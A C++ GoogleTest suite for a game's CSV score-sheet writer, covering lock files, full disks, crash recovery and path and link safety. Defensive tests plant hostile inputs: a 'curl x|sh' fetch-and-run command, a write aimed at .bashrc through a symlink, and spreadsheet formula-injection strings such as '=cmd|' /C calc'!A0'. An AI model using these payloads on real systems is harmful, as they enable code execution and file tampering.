#include "records/ScoreSheet.h"
#include "platform/LocalClock.h"
#include "records/Csv.h"
#include "records/SaveFailures.h"
#include "records/SpreadsheetLock.h"
#include "state/DataFolders.h"
#include "state/Globals.h"
#include "support/CsvReader.h"
#include "support/ProgramFolder.h"
#include "support/TestSupport.h"

#include <gtest/gtest.h>

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QStringEncoder>
#include <QSysInfo>
#include <QTemporaryDir>

#include <chrono>
#include <csignal>
#include <random>
#include <thread>

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

QByteArray Gbk(const QString& text) {
    return QStringEncoder("GBK").encode(text);
}

QByteArray ReadBytes(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// A lock file as a spreadsheet leaves beside the sheet it has open, naming the host it runs on.
void PlantLockFile(const QString& lockPath, const QString& host) {
    QFile lock(lockPath);
    ASSERT_TRUE(lock.open(QIODevice::WriteOnly));
    lock.write((QStringLiteral(",player,") + host + QStringLiteral(",07.12.2026 14:00,file:///home/player;"))
                   .toUtf8());
}

class ScoreSheet : public ::testing::Test {
protected:
    void SetUp() override {
        g_nGameMode = GameMode::Wild;
        g_strPlayerName.Set(QStringLiteral("玩家一"));
        SetLocalTimeSource([this] { return m_now; });
        SetSaveFailureListener([this](const QString& path, int error, bool) {
            m_failures << QStringLiteral("%1 %2").arg(path).arg(error);
        });
        SetSheetNoticeListener([this](const SheetNotice& notice) { m_notices.push_back(notice); });
    }
    void TearDown() override {
        SetLocalTimeSource({});
        SetSaveFailureListener({});
        SetSheetNoticeListener({});
    }
    // Appends a line; the player asked to close the sheet answers at once (after closing it with
    // m_closeSheet, when set).
    void Append(int score, const QString& type) {
        AppendSheetLine(score, type, [this] {
            ++m_closeRequests;
            if (m_closeSheet)
                m_closeSheet();
        });
    }
    QByteArray Line(const char* text) const { return Gbk(QString::fromUtf8(text) + QStringLiteral("\r\n")); }
    QString LockFile(const char* prefix, const char* suffix = "") const {
        const QFileInfo sheet(g_strSheetPath.Get());
        return sheet.absolutePath() + QLatin1Char('/') + QLatin1String(prefix) + sheet.fileName() +
               QLatin1String(suffix);
    }

    // A spreadsheet on another computer has the sheet open while it lives.
    struct CHeldSheet {
        explicit CHeldSheet(const QString& sheet)
            : path(QFileInfo(sheet).absolutePath() + QStringLiteral("/.~lock.") +
                   QFileInfo(sheet).fileName() + QLatin1Char('#')) {
            PlantLockFile(path, QStringLiteral("another-computer"));
        }
        ~CHeldSheet() { QFile::remove(path); }
        QString path;
    };
    QString PendingPath() const { return m_folder.FilePath(QStringLiteral("Data/pending-sheet-lines")); }

    CProgramFolder m_folder;
    QDateTime m_now{QDate(2019, 6, 1), QTime(14, 5, 9)};
    int m_closeRequests = 0;
    std::function<void()> m_closeSheet;
    QStringList m_failures;
    std::vector<SheetNotice> m_notices;
};

TEST(SheetCsv, FieldsReadBackThroughAnIndependentReader) {
    // What a spreadsheet shows: the field, behind an apostrophe when it begins like a formula.
    const std::vector<std::pair<QStringList, QStringList>> cases{
        {{QStringLiteral("玩家一"), QStringLiteral("120")},
         {QStringLiteral("玩家一"), QStringLiteral("120")}},
        {{QStringLiteral("a,b"), QStringLiteral("say \"hi\"")},
         {QStringLiteral("a,b"), QStringLiteral("say \"hi\"")}},
        {{QStringLiteral("two\r\nlines"), QString()}, {QStringLiteral("two\r\nlines"), QString()}},
        {{QStringLiteral("=1+1"), QStringLiteral("\"")}, {QStringLiteral("'=1+1"), QStringLiteral("\"")}},
    };
    for (const auto& [fields, shown] : cases) {
        QStringList written;
        for (const QString& field : fields)
            written << SheetField(field);
        const QString line = written.join(QLatin1Char(','));
        const std::vector<QStringList> rows = ReadCsv(QStringDecoder("GB18030").decode(SheetBytes(line)));
        ASSERT_EQ(rows.size(), 1u) << qPrintable(line);
        EXPECT_EQ(rows[0], shown);
        EXPECT_EQ(SheetFields(line), std::optional<QStringList>(shown));
    }
}

TEST_F(ScoreSheet, ANewSheetIsNamedByModeAndTimeWithItsHeader) {
    ASSERT_TRUE(CreateScoreSheet());
    const QString path = m_folder.Path() + QStringLiteral("/Record/狂野模式2019-06-01-14-05-09.csv");
    EXPECT_EQ(g_strSheetPath.Get(), path);
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间"));

    g_nGameMode = GameMode::Endless;
    ASSERT_TRUE(CreateScoreSheet());
    EXPECT_TRUE(g_strSheetPath.Get().endsWith(QStringLiteral("/Record/无尽模式2019-06-01-14-05-09.csv")));
}

TEST_F(ScoreSheet, LinesAreGbkWithCrLfAndNamesStayTextInASpreadsheet) {
    ASSERT_TRUE(CreateScoreSheet());
    m_now = QDateTime(QDate(2019, 6, 1), QTime(9, 5, 7));
    for (const char* name :
         {"玩家一", "", "张三, \"小张\"", "=HYPERLINK(\"http://x\";\"y\")", "-5", "@SUM(A1)", "+1"}) {
        g_strPlayerName.Set(QString::fromUtf8(name));
        Append(7, kWildSheetText);
    }
    EXPECT_EQ(ReadBytes(g_strSheetPath.Get()),
              Line("姓名,得分,类型,时间") + Line("玩家一,7,狂野模式,09:05-07") +
                  Line(",7,狂野模式,09:05-07") + Line("\"张三, \"\"小张\"\"\",7,狂野模式,09:05-07") +
                  Line("\"'=HYPERLINK(\"\"http://x\"\";\"\"y\"\")\",7,狂野模式,09:05-07") +
                  Line("'-5,7,狂野模式,09:05-07") + Line("'@SUM(A1),7,狂野模式,09:05-07") +
                  Line("'+1,7,狂野模式,09:05-07"));
    EXPECT_EQ(m_closeRequests, 0);
}

// A spreadsheet on another computer cannot be looked for: its lock file counts. The line waits, and
// goes in ahead of the next one once the sheet is free.
TEST_F(ScoreSheet, ASheetHeldByASpreadsheetAsksThriceAndKeepsTheLine) {
    ASSERT_TRUE(CreateScoreSheet());
    const QString path = g_strSheetPath.Get();
    PlantLockFile(LockFile(".~lock.", "#"), QStringLiteral("another-computer"));
    Append(123, kWildSheetText);
    EXPECT_EQ(m_closeRequests, 3);
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间"));
    EXPECT_EQ(m_failures, QStringList{QStringLiteral("%1 %2").arg(path).arg(EBUSY)});

    m_closeRequests = 0;
    m_closeSheet = [&] { QFile::remove(LockFile(".~lock.", "#")); };
    m_now = m_now.addSecs(60);
    Append(7, kWildSheetText);
    EXPECT_EQ(m_closeRequests, 1);
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间") + Line("玩家一,123,狂野模式,14:05-09") +
                                   Line("玩家一,7,狂野模式,14:06-09"));
}

// Lock files whose spreadsheet crashed do not count; one whose program still has the sheet open does.
TEST_F(ScoreSheet, StaleLockFilesAreRecognised) {
    ASSERT_TRUE(CreateScoreSheet());
    PlantLockFile(LockFile(".~lock.", "#"), QSysInfo::machineHostName()); // no such program runs here
    QFile(LockFile(".~")).open(QIODevice::WriteOnly);                     // WPS Office's, left behind
    Append(1, kWildSheetText);
    EXPECT_EQ(m_closeRequests, 0);

    int ready[2];
    ASSERT_EQ(pipe(ready), 0);
    const pid_t child = fork(); // a program that has the sheet open, beside its lock file
    ASSERT_GE(child, 0);
    if (child == 0) {
        const int fd = open(QFile::encodeName(g_strSheetPath.Get()).constData(), O_RDONLY);
        [[maybe_unused]] const ssize_t n = write(ready[1], &fd, sizeof fd);
        pause();
        _exit(0);
    }
    int fd = -1;
    ASSERT_EQ(read(ready[0], &fd, sizeof fd), ssize_t(sizeof fd));
    Append(2, kWildSheetText);
    kill(child, SIGKILL);
    waitpid(child, nullptr, 0);
    EXPECT_EQ(m_closeRequests, 3);
    WritePendingSheetLines(); // the next start
    EXPECT_TRUE(ReadBytes(g_strSheetPath.Get())
                    .endsWith(Line("玩家一,1,狂野模式,14:05-09") + Line("玩家一,2,狂野模式,14:05-09")));
}

// A suite's lock file counts while a program of that suite runs here, found by its name alone (it
// need not hold the sheet open), also under a name the suite cut short; once it is gone, it is stale.
TEST_F(ScoreSheet, ALockFileCountsWhileItsSuiteRuns) {
    ASSERT_TRUE(CreateScoreSheet());
    const QString name = QFileInfo(g_strSheetPath.Get()).fileName();
    const struct {
        QString lockName;
        const char* program;
    } cases[] = {{".~lock." + name + "#", "soffice.bin"},
                 {"~$" + name.mid(2), "DesktopEditors"},
                 {".~" + name.mid(1), "wps"}};
    for (const auto& c : cases) {
        SCOPED_TRACE(c.program);
        const QString program = m_folder.FilePath(QString::fromLatin1(c.program));
        ASSERT_TRUE(QFile::copy(QStringLiteral("/bin/sleep"), program));
        const QString lock = m_folder.FilePath(QStringLiteral("Record/") + c.lockName);
        PlantLockFile(lock, QSysInfo::machineHostName());
        EXPECT_FALSE(SheetHeldBySpreadsheet(g_strSheetPath.Get()));
        const pid_t child = fork();
        ASSERT_GE(child, 0);
        if (child == 0) {
            execl(QFile::encodeName(program).constData(), c.program, "30", nullptr);
            _exit(127);
        }
        EXPECT_TRUE(WaitUntil([&] { return SheetHeldBySpreadsheet(g_strSheetPath.Get()); }));
        kill(child, SIGKILL);
        waitpid(child, nullptr, 0);
        EXPECT_FALSE(SheetHeldBySpreadsheet(g_strSheetPath.Get()));
        QFile::remove(lock);
    }
}

TEST_F(ScoreSheet, ASheetLockedByAnotherProcessIsNotWrittenUntilItIsFree) {
    ASSERT_TRUE(CreateScoreSheet());
    const QString path = g_strSheetPath.Get();
    int ready[2];
    ASSERT_EQ(pipe(ready), 0);
    const pid_t child = fork();
    ASSERT_GE(child, 0);
    if (child == 0) {
        // Another program: a record lock over the whole file, held until it is killed.
        const int fd = open(QFile::encodeName(path).constData(), O_RDWR);
        struct flock whole {};
        whole.l_type = F_WRLCK;
        whole.l_whence = SEEK_SET;
        const char ok = (fd >= 0 && fcntl(fd, F_SETLK, &whole) == 0) ? 1 : 0;
        [[maybe_unused]] const ssize_t n = write(ready[1], &ok, 1);
        pause();
        _exit(0);
    }
    char ok = 0;
    ASSERT_EQ(read(ready[0], &ok, 1), 1);
    ASSERT_EQ(ok, 1);
    Append(123, kWildSheetText);
    EXPECT_EQ(m_closeRequests, 3);
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间"));
    kill(child, SIGKILL);
    waitpid(child, nullptr, 0);
    WritePendingSheetLines();
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间") + Line("玩家一,123,狂野模式,14:05-09"));
}

// A sheet deleted during a game is not made again by the game's line, which waits. At the next start
// the sheet comes back with its header and its lines, and the player hears so; lines whose folder is
// gone wait, and the player hears why.
TEST_F(ScoreSheet, ADeletedSheetIsMadeAgainAtTheNextStartAndAMissingFolderIsTold) {
    ASSERT_TRUE(CreateScoreSheet());
    const QString path = g_strSheetPath.Get();
    ASSERT_TRUE(QFile::remove(path));
    Append(5, kWildSheetText);
    EXPECT_EQ(m_closeRequests, 0); // no spreadsheet to close: the player is not asked to
    EXPECT_FALSE(QFile::exists(path));
    EXPECT_EQ(m_failures, QStringList{QStringLiteral("%1 %2").arg(path).arg(ENOENT)});
    std::vector<SheetNotice> told = WritePendingSheetLines();
    ASSERT_EQ(told.size(), 1u);
    EXPECT_EQ(told[0].kind, SheetNoticeKind::Recreated);
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间") + Line("玩家一,5,狂野模式,14:05-09"));
    EXPECT_FALSE(QFile::exists(PendingPath()));

    Append(6, kWildSheetText);
    ASSERT_TRUE(QFile::remove(path));
    {
        const CHeldSheet held(path);
        Append(7, kWildSheetText);
    }
    const QString record = m_folder.FilePath(QStringLiteral("Record"));
    ASSERT_TRUE(QDir(record).removeRecursively());
    told = WritePendingSheetLines();
    ASSERT_EQ(told.size(), 1u);
    EXPECT_EQ(told[0].kind, SheetNoticeKind::Waiting);
    EXPECT_EQ(told[0].path, record);
    EXPECT_EQ(told[0].lines, 1);
    EXPECT_FALSE(CreateScoreSheet()); // never made here
    EXPECT_FALSE(QDir(record).exists());
    EXPECT_TRUE(g_strSheetPath.Get().contains(QStringLiteral("/Record/"))); // the failed path stays
    ASSERT_TRUE(QDir().mkpath(record));
    told = WritePendingSheetLines();
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间") + Line("玩家一,7,狂野模式,14:05-09"));
}

// On a full disk a sheet is not made at all, and a line leaves the sheet as it was; both wait for space.
TEST_F(ScoreSheet, AFullDiskLeavesNoEmptySheetAndNoHalfLine) {
    CSmallDisk disk(m_folder.FilePath(QStringLiteral("Record")), 64);
    if (!disk.Mounted())
        GTEST_SKIP() << "cannot mount a small file system here";
    disk.Fill();
    EXPECT_FALSE(CreateScoreSheet());
    EXPECT_FALSE(QFile::exists(g_strSheetPath.Get()));
    disk.Free();
    ASSERT_TRUE(CreateScoreSheet());
    const QString path = g_strSheetPath.Get();
    {
        // The sheet ends on a page boundary, so the next line needs space the disk no longer has.
        QFile sheet(path);
        ASSERT_TRUE(sheet.open(QIODevice::Append));
        sheet.write(QByteArray(4096 - sheet.size() - 2, 'x') + "\r\n");
    }
    const QByteArray before = ReadBytes(path);
    disk.Fill();
    g_strPlayerName.Set(QStringLiteral("一个很长的名字") + QString(40, QLatin1Char('x')));
    Append(99, kEndlessSheetText);
    EXPECT_EQ(ReadBytes(path), before);
    EXPECT_EQ(m_closeRequests, 0);
    EXPECT_EQ(m_failures, QStringList{QStringLiteral("%1 %2").arg(path).arg(ENOSPC)});
    disk.Free();
    WritePendingSheetLines();
    EXPECT_TRUE(ReadBytes(path).startsWith(before));
    EXPECT_TRUE(ReadBytes(path).endsWith(Gbk(g_strPlayerName.Get()) + Line(",99,无尽模式,14:05-09")));
}

// Whoever may write the settings folder may write the waiting lines. They lead no write outside the
// record folder, not through a link planted there either, and no forged line into a sheet: such
// entries are moved aside whole, and the player hears where to.
TEST_F(ScoreSheet, WaitingLinesThatLeadElsewhereAreSetAsideNeverWritten) {
    ASSERT_TRUE(CreateScoreSheet());
    const QString sheet = QFileInfo(g_strSheetPath.Get()).fileName();
    const QString victim = m_folder.FilePath(QStringLiteral(".bashrc"));
    QFile(victim).open(QIODevice::WriteOnly);
    const QString linked = QStringLiteral("无尽模式2019-06-01-14-05-09.csv");
    ASSERT_EQ(symlink("../.bashrc", QFile::encodeName(m_folder.FilePath("Record/" + linked)).constData()), 0);
    const auto entry = [](const QString& where, const char* line, const char* offset = " 0 ") {
        return where.toUtf8().toPercentEncoding() + offset +
               QString::fromUtf8(line).toUtf8().toPercentEncoding() + '\n';
    };
    const QByteArray planted =
        entry(victim, "curl x|sh,1,狂野模式,14:05-09", " ") + // as earlier versions named sheets
        entry(QStringLiteral("../.bashrc"), "curl x|sh,1,狂野模式,14:05-09") +
        entry(sheet, "x\ncurl x|sh,1,狂野模式,14:05-09") +       // a line break
        entry(sheet, "=cmd|' /C calc'!A0,1,狂野模式,14:05-09") + // a formula unguarded
        entry(linked, "玩家二,2,无尽模式,14:05-09") +            // a link named like a sheet
        entry(sheet, "玩家一,1,狂野模式,14:05-09");
    QFile pending(PendingPath());
    ASSERT_TRUE(pending.open(QIODevice::WriteOnly) && pending.write(planted) == planted.size());
    pending.close();

    const std::vector<SheetNotice> told = WritePendingSheetLines();
    EXPECT_EQ(ReadBytes(victim), QByteArray());
    EXPECT_EQ(ReadBytes(g_strSheetPath.Get()),
              Line("姓名,得分,类型,时间") + Line("玩家一,1,狂野模式,14:05-09"));
    ASSERT_EQ(m_notices.size(), 1u);
    EXPECT_EQ(m_notices[0].kind, SheetNoticeKind::SetAside);
    EXPECT_EQ(m_notices[0].lines, 4);
    EXPECT_EQ(ReadBytes(m_notices[0].path), planted);
    ASSERT_EQ(told.size(), 1u); // the linked sheet's line waits, and is told
    EXPECT_EQ(told[0].kind, SheetNoticeKind::Waiting);
    EXPECT_EQ(told[0].error, ELOOP);
    EXPECT_EQ(ReadBytes(PendingPath()), entry(linked, "玩家二,2,无尽模式,14:05-09"));
}

// A waiting line goes in unless the sheet holds it after where the sheet ended when it began to wait:
// the same name, score and minute earlier in the sheet is another game's line.
TEST_F(ScoreSheet, AnIdenticalLineBeforeTheWaitBeganIsAnotherGames) {
    ASSERT_TRUE(CreateScoreSheet());
    Append(7, kWildSheetText);
    const QByteArray sheet = ReadBytes(g_strSheetPath.Get());
    QFile pending(PendingPath());
    ASSERT_TRUE(pending.open(QIODevice::WriteOnly));
    pending.write(QFileInfo(g_strSheetPath.Get()).fileName().toUtf8().toPercentEncoding() + ' ' +
                  QByteArray::number(sheet.size()) + ' ' +
                  QStringLiteral("玩家一,7,狂野模式,14:05-09").toUtf8().toPercentEncoding() + '\n');
    pending.close();
    WritePendingSheetLines();
    EXPECT_EQ(ReadBytes(g_strSheetPath.Get()), sheet + Line("玩家一,7,狂野模式,14:05-09"));
}

// Neither a line feed at the end of a name or a line, nor a record folder another account could have
// linked elsewhere, takes a line out of its sheet.
TEST_F(ScoreSheet, NoLineFeedOrLinkedRecordFolderLeadsALineElsewhere) {
    EXPECT_TRUE(IsSheetFileName(QStringLiteral("狂野模式2019-06-01-14-05-09.csv")));
    EXPECT_FALSE(IsSheetFileName(QStringLiteral("狂野模式2019-06-01-14-05-09.csv\n")));
    EXPECT_TRUE(IsSheetLine(QStringLiteral("玩家一,1,狂野模式,14:05-09")));
    EXPECT_FALSE(IsSheetLine(QStringLiteral("玩家一,1,狂野模式,14:05-09\n")));
    EXPECT_FALSE(IsSheetLine(QStringLiteral("玩家一,1\n,狂野模式,14:05-09")));

    QTemporaryDir elsewhere;
    ASSERT_EQ(chmod(QFile::encodeName(m_folder.Path()).constData(), 0777), 0);
    ASSERT_TRUE(QDir(m_folder.FilePath(QStringLiteral("Record"))).removeRecursively());
    ASSERT_EQ(symlink(QFile::encodeName(elsewhere.path()).constData(),
                      QFile::encodeName(m_folder.FilePath(QStringLiteral("Record"))).constData()),
              0);
    EXPECT_FALSE(CreateScoreSheet());
    Append(5, kWildSheetText);
    EXPECT_TRUE(QDir(elsewhere.path()).isEmpty());
    EXPECT_TRUE(ReadBytes(PendingPath()).contains(QByteArray("5")));
}

// A waiting-lines file this player cannot read (another account's, kept private) is moved aside and
// told once, never overwritten by the next line.
TEST_F(ScoreSheet, AnUnreadableWaitingFileIsMovedAsideNotOverwritten) {
    ASSERT_TRUE(CreateScoreSheet());
    const QByteArray theirs = "%E7%8B%82 0 %E7%8E%A9,3,x,14:05-09\n";
    QFile pending(PendingPath());
    ASSERT_TRUE(pending.open(QIODevice::WriteOnly) && pending.write(theirs) == theirs.size());
    pending.close();
    ASSERT_EQ(chmod(QFile::encodeName(PendingPath()).constData(), 0600), 0);
    for (const char* folder : {".", "Data", "Record", "Record/狂野模式2019-06-01-14-05-09.csv"})
        ASSERT_EQ(chmod(QFile::encodeName(m_folder.FilePath(QString::fromUtf8(folder))).constData(), 0777),
                  0);
    if (geteuid() != 0)
        GTEST_SKIP() << "needs another account to own the file";
    const int told = RunAsOrdinaryUser([&] {
        Append(1, kWildSheetText);
        Append(2, kWildSheetText);
        return static_cast<int>(m_notices.size()) * 10 + (m_notices.empty() ? 0 : int(m_notices[0].kind));
    });
    EXPECT_EQ(told, 10 + int(SheetNoticeKind::SetAside));
    const QStringList aside = QDir(m_folder.FilePath(QStringLiteral("Data")))
                                  .entryList({QStringLiteral("pending-sheet-lines.unreadable-*")});
    ASSERT_EQ(aside.size(), 1);
    EXPECT_EQ(ReadBytes(m_folder.FilePath(QStringLiteral("Data/") + aside[0])), theirs);
    EXPECT_EQ(ReadBytes(g_strSheetPath.Get()), Line("姓名,得分,类型,时间") +
                                                   Line("玩家一,1,狂野模式,14:05-09") +
                                                   Line("玩家一,2,狂野模式,14:05-09"));
}

// The sheet took the waiting lines, but the settings folder is read-only and they cannot leave the
// waiting list: the next start must not write them again.
TEST_F(ScoreSheet, LinesWrittenWhileTheSettingsFolderIsReadOnlyAreNotWrittenAgain) {
    if (geteuid() != 0)
        GTEST_SKIP() << "needs another account, for whom the folder is read-only";
    ASSERT_TRUE(CreateScoreSheet());
    const QString path = g_strSheetPath.Get();
    {
        const CHeldSheet held(path);
        Append(1, kWildSheetText); // waits
    }
    const QByteArray data = QFile::encodeName(m_folder.FilePath(QStringLiteral("Data")));
    for (const QString& writable : {m_folder.Path(), m_folder.FilePath(QStringLiteral("Record")), path})
        ASSERT_EQ(chmod(QFile::encodeName(writable).constData(), 0777), 0);
    ASSERT_EQ(chmod(data.constData(), 0555), 0);
    EXPECT_EQ(RunAsOrdinaryUser([&] {
                  Append(2, kWildSheetText);
                  return static_cast<int>(m_notices.size());
              }),
              0);
    ASSERT_EQ(chmod(data.constData(), 0755), 0);
    WritePendingSheetLines();
    EXPECT_EQ(ReadBytes(path), Line("姓名,得分,类型,时间") + Line("玩家一,1,狂野模式,14:05-09") +
                                   Line("玩家一,2,狂野模式,14:05-09"));
}

// Both folders on one small disk, the sheet ending anywhere from a full page to a line's length short
// of one, with a line waiting for this sheet and one for another: the new line goes in once, or the
// player hears that it is saved nowhere, never that it was kept; no line goes in twice.
TEST_F(ScoreSheet, OnAFullDiskEveryLineGoesInOnceOrIsToldLost) {
    const QString base = m_folder.FilePath(QStringLiteral("disk"));
    ASSERT_TRUE(QDir().mkpath(base));
    CSmallDisk disk(base, 64);
    if (!disk.Mounted())
        GTEST_SKIP() << "cannot mount a small file system here";
    SetDataFolders({base + QStringLiteral("/Data"), base + QStringLiteral("/Record")});
    const QByteArray waiting = Line("玩家一,1,狂野模式,14:05-09"), other = Line("玩家一,9,无尽模式,14:05-10");
    const QByteArray fresh = Line("玩家一,2,狂野模式,14:05-09");
    for (qsizetype room = 0; room <= 2 * (waiting.size() + fresh.size()); ++room) {
        SCOPED_TRACE(room);
        for (const char* folder : {"Data", "Record"}) {
            QDir(base + QLatin1Char('/') + QLatin1String(folder)).removeRecursively();
            QDir(base).mkdir(QLatin1String(folder));
        }
        m_now = QDateTime(QDate(2019, 6, 1), QTime(14, 5, 10));
        g_nGameMode = GameMode::Endless;
        ASSERT_TRUE(CreateScoreSheet());
        const QString otherSheet = g_strSheetPath.Get();
        const CHeldSheet otherHeld(otherSheet);
        Append(9, kEndlessSheetText); // waits for a sheet held throughout
        m_now = m_now.addSecs(-1);
        g_nGameMode = GameMode::Wild;
        ASSERT_TRUE(CreateScoreSheet());
        const QString path = g_strSheetPath.Get();
        {
            const CHeldSheet held(path);
            Append(1, kWildSheetText); // waits until the sheet is free
        }
        {
            QFile sheet(path);
            ASSERT_TRUE(sheet.open(QIODevice::Append));
            const qsizetype pad = (2 * 4096 - room - sheet.size() - 2) % 4096;
            sheet.write(QByteArray(pad, 'x') + "\r\n");
        }
        const QByteArray before = ReadBytes(path);
        m_notices.clear();
        m_failures.clear();
        disk.Fill();
        Append(2, kWildSheetText);
        disk.Free();
        QFile::remove(otherHeld.path);
        WritePendingSheetLines(); // the next start

        const bool lost = std::any_of(m_notices.begin(), m_notices.end(), [&](const SheetNotice& n) {
            return n.kind == SheetNoticeKind::LineLost && Gbk(n.line + QStringLiteral("\r\n")) == fresh;
        });
        EXPECT_EQ(ReadBytes(path), before + waiting + (lost ? QByteArray() : fresh));
        EXPECT_EQ(ReadBytes(otherSheet).count(other), 1);
    }
}

// However a game dies while its line goes in (lines waiting for a held sheet, then written with the
// next one), every line taken reaches the sheet once at the next start: none twice, none lost, in order.
TEST_F(ScoreSheet, EveryLineReachesItsSheetOnceWhereverTheGameIsKilled) {
    const int runs = qEnvironmentVariableIntValue("AVILUMA_KILL_RUNS") > 0
                         ? qEnvironmentVariableIntValue("AVILUMA_KILL_RUNS")
                         : 20;
    std::mt19937 random(2026);
    for (int run = 0; run < runs; ++run) {
        SCOPED_TRACE(run);
        for (const char* folder : {"Data", "Record"}) {
            QDir(m_folder.FilePath(QLatin1String(folder))).removeRecursively();
            QDir(m_folder.Path()).mkdir(QLatin1String(folder));
        }
        ASSERT_TRUE(CreateScoreSheet());
        const QString lock = CHeldSheet(g_strSheetPath.Get()).path;
        int acks[2];
        ASSERT_EQ(pipe(acks), 0);
        const pid_t child = fork();
        ASSERT_GE(child, 0);
        if (child == 0) {
            for (int score = 1;; ++score) {
                if (score % 3 == 0)
                    PlantLockFile(lock, QStringLiteral("another-computer"));
                else
                    QFile::remove(lock);
                Append(score, kWildSheetText);
                [[maybe_unused]] const ssize_t n = write(acks[1], &score, sizeof score);
            }
        }
        close(acks[1]);
        std::this_thread::sleep_for(std::chrono::microseconds(random() % 40000));
        kill(child, SIGKILL);
        waitpid(child, nullptr, 0);
        int taken = 0;
        for (int score = 0; read(acks[0], &score, sizeof score) == sizeof score;)
            taken = score;
        close(acks[0]);
        QFile::remove(lock);
        WritePendingSheetLines();

        QList<int> scores;
        for (const QByteArray& line : ReadBytes(g_strSheetPath.Get()).split('\n').mid(1))
            if (!line.isEmpty())
                scores << line.split(',').value(1).toInt();
        ASSERT_GE(scores.size(), taken);
        ASSERT_LE(scores.size(), taken + 1); // the line being taken when it died: in or not
        for (qsizetype i = 0; i < scores.size(); ++i)
            ASSERT_EQ(scores[i], i + 1);
    }
}

} // namespace
